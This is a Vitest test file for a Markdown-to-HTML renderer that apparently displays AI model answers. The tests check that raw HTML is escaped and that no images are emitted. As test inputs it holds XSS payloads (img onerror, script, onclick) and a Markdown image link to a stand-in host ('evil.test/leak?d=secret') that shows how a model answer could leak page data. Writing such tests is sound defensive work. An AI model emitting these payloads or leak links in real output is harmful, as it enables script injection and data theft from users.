import { describe, expect, it } from 'vitest';
import { markdownToHtml } from './render-markdown';

// The sanitiser (DOMPurify) needs a DOM; the e2e tests check it in the page. This checks the parser step.
describe('markdownToHtml', () => {
  it('renders Markdown', () => {
    expect(markdownToHtml('**bold** and `code`\n\n- one\n- two')).toBe(
      '<p><strong>bold</strong> and <code>code</code></p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n',
    );
  });

  it.each([
    ['<img src=x onerror="alert(1)">', '&lt;img src=x onerror=&quot;alert(1)&quot;&gt;'],
    ['<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['Hi <b onclick="x()">there</b>', '&lt;b onclick=&quot;x()&quot;&gt;'],
  ])('shows raw HTML from the model as text: %s', (markdown, escaped) => {
    const html = markdownToHtml(markdown);
    expect(html).toContain(escaped);
    expect(html).not.toMatch(/<(img|script|b)\b/);
  });

  it('never emits an image, so an answer cannot make the page send a request', () => {
    const html = markdownToHtml('![page data](https://evil.test/leak?d=secret)');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('evil.test');
    expect(html).toContain('page data');
  });
});
